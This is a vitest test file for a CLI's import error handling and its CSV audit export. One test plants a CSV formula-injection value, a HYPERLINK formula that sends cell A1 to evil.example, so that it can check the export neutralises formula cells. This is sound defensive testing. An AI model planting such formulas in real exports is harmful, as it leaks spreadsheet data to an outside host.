import {mkdirSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'

import {parse} from 'csv-parse/sync'
import {beforeAll, describe, expect, it} from 'vitest'

import {fromCsvCell} from '../../src/core/csv.js'
import {runCli, tempHome} from '../helpers/cli.js'

// Through the built binary, as cron runs it: what a bad path or a hostile value does to the process.
describe('imports and CSV exports through the built binary', () => {
  const home = tempHome()
  const dir = join(home, 'inputs')
  beforeAll(() => mkdirSync(dir))

  // Item 2 and 5: a missing *.csv crashed the process with Node's unhandled 'error' event stack (exit 1, nothing on
  // stdout under --json); a missing *.jsonl and a directory were internal errors (exit 1, raw ENOENT/EISDIR).
  it.each(['sites', 'customers', 'invoices'])(
    '%s import of a missing file or a directory: exit 2, a JSON error on stdout, no stack trace',
    async (what) => {
      for (const [path, reason] of [
        [join(dir, 'missing.csv'), 'no such file'],
        [join(dir, 'missing.jsonl'), 'no such file'],
        [dir, 'it is a directory, not a file'],
      ] as const) {
        const r = await runCli([what, 'import', path, '--json'], {home})
        expect(r.code, r.stderr).toBe(2)
        expect(r.json()).toEqual({
          error: {
            code: 'usage',
            message: `cannot read ${path}: ${reason}`,
            hint: expect.any(String),
            exitCode: 2,
          },
        })
        expect(r.stderr).toBe('')
      }
      const plain = await runCli([what, 'import', join(dir, 'missing.csv')], {home})
      expect(plain.code).toBe(2)
      expect(plain.stderr).toMatch(/^Error: cannot read .*missing\.csv: no such file\n/)
      expect(plain.stderr).not.toMatch(/node:events|\n\s+at /)
    },
  )

  it('an empty file exits 2', async () => {
    const empty = join(dir, 'empty.csv')
    writeFileSync(empty, '')
    const r = await runCli(['customers', 'import', empty], {home})
    expect(r.code).toBe(2)
    expect(r.stderr).toMatch(/is empty/)
  })

  // Item 4: cells that begin with = + - @ tab or CR are formulas to a spreadsheet; a site name and an actor are
  // enough to plant one in the audit export.
  it('audit export --format csv neutralises formula cells; the reader gets the stored text back', async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    const add = await runCli(['sites', 'add', 'evil', '--name', name, '--currency', 'EUR', '--actor', '@SUM(1+1)'], {
      home,
    })
    expect(add.code, add.stderr).toBe(0)
    const r = await runCli(['audit', 'export', '--format', 'csv'], {home})
    expect(r.code).toBe(0)
    const [header, ...rows] = parse(r.stdout) as string[][]
    const formula = /^[=+\-@\t\r]/
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(formula)
    const actor = header!.indexOf('actor')
    const evil = rows.find((row) => row[actor] === "'@SUM(1+1)")
    expect(evil).toBeDefined()
    expect(fromCsvCell(evil![actor]!)).toBe('@SUM(1+1)')
    expect(JSON.parse(evil![header!.indexOf('details')]!)).toMatchObject({name})
  })
})
